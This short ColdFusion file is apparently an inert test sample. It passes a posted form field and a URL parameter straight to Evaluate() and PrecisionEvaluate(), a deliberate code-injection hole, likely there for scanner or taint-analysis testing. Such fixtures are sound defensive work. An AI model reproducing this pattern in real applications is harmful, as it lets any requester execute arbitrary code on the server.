<!--- test sample (inert): the posted text is copied into a variable first, then evaluated as
      CFML a few lines down under that name --->
<cfif structKeyExists(form, "q")>
<cfset payload = "#form.q#">
<cfset started = now()>
<cfoutput>#Evaluate(payload)#</cfoutput>
</cfif>
<cfscript>
    var again = url.r;
    if (len(again)) {
        writeOutput(PrecisionEvaluate(again));
    }
</cfscript>
